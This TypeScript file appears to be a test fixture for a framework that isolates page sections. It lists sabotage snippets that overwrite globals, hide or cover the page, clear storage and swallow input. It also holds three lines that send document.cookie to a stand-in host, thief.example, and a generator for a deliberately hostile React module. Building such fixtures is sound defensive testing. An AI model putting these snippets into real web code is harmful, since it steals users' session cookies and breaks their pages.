/** Kinds of damage a section's code can do to the shared page. */
export const HARMS = {
  // Globals, while the module loads.
  fetch: `window.fetch = () => Promise.reject(new Error('no fetch any more'));`,
  promise: `Promise.prototype.then = function () { return new Promise(() => {}); };`,
  json: `JSON.stringify = () => 'nothing you would like';`,
  array: `Array.prototype.map = function () { return []; };`,
  instance: `history.pushState = function () { throw new Error('nobody moves'); };`,
  // The document and the shell, while the page renders.
  header: `EFFECT document.querySelector('header').remove();`,
  overlay: `EFFECT const over = document.createElement('div'); over.id = 'over'; over.style.cssText = 'position:fixed;inset:0;z-index:99999;background:red'; document.body.append(over);`,
  filter: `EFFECT document.documentElement.style.filter = 'invert(1)';`,
  hidden: `EFFECT document.querySelector('main').setAttribute('hidden', '');`,
  styles: `EFFECT const all = document.createElement('style'); all.textContent = 'h1, header { visibility: hidden !important }'; document.head.append(all);`,
  // State shared by all pages.
  storage: `EFFECT localStorage.clear();`,
  address: `EFFECT history.pushState(null, '', '/nowhere');`,
  title: `EFFECT document.title = 'Mine';`,
  clicks: `EFFECT document.addEventListener('click', (event) => { event.stopImmediatePropagation(); event.preventDefault(); }, true);`,
  keys: `EFFECT window.addEventListener('keydown', (event) => event.stopImmediatePropagation(), true);`,
  interval: `EFFECT setInterval(() => { document.body.style.display = 'none'; }, 50);`,
  timer: `EFFECT setTimeout(() => { window.fetch = () => Promise.reject(new Error('no fetch any more')); }, 100);`,
  // Attempts to send data out.
  picture: `EFFECT new Image().src = 'https://thief.example/?' + encodeURIComponent(document.cookie);`,
  request: `EFFECT void fetch('https://thief.example/', { method: 'POST', body: document.cookie }).catch(() => {});`,
  beacon: `EFFECT navigator.sendBeacon('https://thief.example/', document.cookie);`,
} as const;
export type Harm = keyof typeof HARMS;

/** Damage that is undone without a report: pages may set the document title. */
export const UNNAMED: readonly Harm[] = ['title'];

/** A page that does the damage named in its address, and works normally without one. */
export function hostile(label: string): string {
  const cases = (isEffect: boolean) =>
    Object.entries(HARMS)
      .filter(([, code]) => code.startsWith('EFFECT ') === isEffect)
      .map(([name, code]) => `${name}: () => { ${code.replace(/^EFFECT /, '')} },`)
      .join('\n');
  return `import { useEffect } from 'react';
const harm = new URLSearchParams(location.search).get('harm');
const LOADING = { ${cases(false)} };
const DRAWING = { ${cases(true)} };
LOADING[harm]?.();
export default function Module() {
  useEffect(() => { DRAWING[harm]?.(); }, []);
  return <section><h1>${label}</h1></section>;
}`;
}
